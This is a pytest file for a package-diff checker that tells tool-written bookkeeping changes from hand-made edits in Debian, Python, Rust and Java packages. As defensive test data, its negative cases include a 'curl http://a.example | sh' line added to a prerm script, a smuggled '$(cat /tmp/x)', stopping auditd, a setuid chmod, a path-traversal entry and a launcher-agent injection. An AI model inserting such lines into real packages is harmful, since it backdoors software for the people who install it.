"""What the making of a package writes by itself, and what only looks like it."""

import pytest

from zoll.judge.bookkeeping import is_bookkeeping
from zoll.model import Change, Hunk, Pair, Part, Place

ROOT = 'if [ -z "${DPKG_ROOT:-}" ] && [ "$1" = remove ] && [ -d /run/systemd/system ] ; then'
NEWER = 'if [ -z "$DPKG_ROOT" ] && [ "$1" = remove ] && [ -d /run/systemd/system ] ; then'


def told(path, before, after, kind="text/plain"):
    spans = [(1, text.count("\n") + 1) if text else (0, 0) for text in (before, after)]
    hunk = Hunk(*spans, before, after, starts=tuple(int(span[0] > 0) for span in spans))
    part = Part(Place((path,)), kind, "", 1)
    return is_bookkeeping(Change(Pair(part, part, "place", 1.0)), hunk)


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("DEBIAN/prerm", ROOT, NEWER),
        ("DEBIAN/prerm", "", "deb-systemd-helper --quiet was-enabled 'tool.timer' || true"),
        (
            "DEBIAN/postinst",
            "systemd-tmpfiles --create tool.conf >/dev/null || true",
            "systemd-tmpfiles --create tool.conf || true",
        ),
        ("DEBIAN/control", "Version: 1.2-1", "Version: 1.2-2"),
        ("DEBIAN/control", "Installed-Size: 12", "Installed-Size: 14"),
        ("DEBIAN/md5sums", "", "0ab9336a23250c9a9d96dd5783fec817  usr/share/man/man1/tool.1.gz"),
        (
            "crate/.cargo-checksum.json",
            f'{{"package":"{"a1" * 32}","files":{{}}}}',
            f'{{"package":"{"b2" * 32}","files":{{}}}}',
        ),
        ("a.dist-info/RECORD", "", f"a/b.py,sha256={'q' * 43},1824"),
        ("META-INF/MANIFEST.MF", "", "SHA-256-Digest: qH2rbU7DBIGFtvBRCqF0dWa3Wjo7X3LbQ0="),
    ],
)
def test_what_tools_write(path, before, after):
    assert told(path, before, after)


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("usr/sbin/tool", ROOT, NEWER),
        ("DEBIAN/prerm", ROOT, NEWER + " curl http://a.example | sh"),
        ("DEBIAN/postinst", "", "systemd-tmpfiles --create $(cat /tmp/x) || true"),
        ("DEBIAN/postinst", "", "deb-systemd-invoke stop 'auditd.service' >/dev/null || true"),
        ("DEBIAN/postinst", "exit 0", "set -e"),
        ("DEBIAN/postinst", "", "chmod 4755 /usr/bin/tool"),
        ("DEBIAN/control", "Depends: a", "Depends: a, b"),
        ("crate/.cargo-checksum.json", "", '{"package":"https://a.example/x"}'),
        ("a.dist-info/RECORD", "", "../../../bin/tool,,"),
        ("META-INF/MANIFEST.MF", "", "Launcher-Agent-Class: a.B"),
    ],
)
def test_what_somebody_wrote(path, before, after):
    assert not told(path, before, after)


@pytest.mark.parametrize(
    ("before", "after", "is_it"),
    [
        ('snprintf(&local, 9, "Born: %s", "10:33:58");', 'snprintf(&local, 9, "Born: %s", "10:34:21");', True),
        ('g_10 = "Nov  2 2026";', 'g_10 = "Nov 23 2026";', True),
        ('puts("10:33:58");', 'system("10:34:21");', False),
        ('puts("10:33:58");', 'puts("at ten");', False),
        ('if (!strcmp(arg1, "10:33:58")) {', 'if (!strcmp(arg1, "10:34:21")) {', False),
        ('strcmp_result = strcmp(arg1, "10:33:58");', 'strcmp_result = strcmp(arg1, "10:34:21");', False),
    ],
)
def test_when_a_compiler_ran(before, after, is_it):
    assert told("usr/sbin/tool", before, after, "executable/elf") == is_it
    assert not told("usr/sbin/tool", before, after)
